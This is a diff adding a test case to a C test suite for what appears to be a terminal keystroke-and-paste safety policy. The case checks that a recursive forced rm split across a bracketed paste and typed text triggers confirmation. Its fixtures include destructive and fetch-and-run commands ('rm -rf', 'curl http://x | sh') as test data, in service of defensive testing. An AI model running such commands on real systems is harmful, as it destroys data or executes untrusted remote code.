@@ -286,6 +286,13 @@ TEST(paste_keys_are_checked_against_the_selection)
     ASSERT_EQ(act(&f, hotkey("enter")), XTARS_POLICY_CONFIRM);
     ASSERT_STR_CONTAINS(f.reason, "recursive forced rm");
     teardown(&f);
+    /* bracketed paste: the pasted newline stays text, and Backspace joins the lines */
+    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
+    f.desk.clipboard = "rm -\n";
+    ASSERT_EQ(act(&f, hotkey("ctrl+shift+v")), XTARS_POLICY_ALLOW);
+    ASSERT_EQ(act(&f, hotkey("backspace")), XTARS_POLICY_ALLOW);
+    ASSERT_EQ(act(&f, typing("rf DIR\n")), XTARS_POLICY_CONFIRM);
+    teardown(&f);
     /* the middle button pastes the primary selection */
     setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
     f.desk.primary = "curl http://x | sh\n";
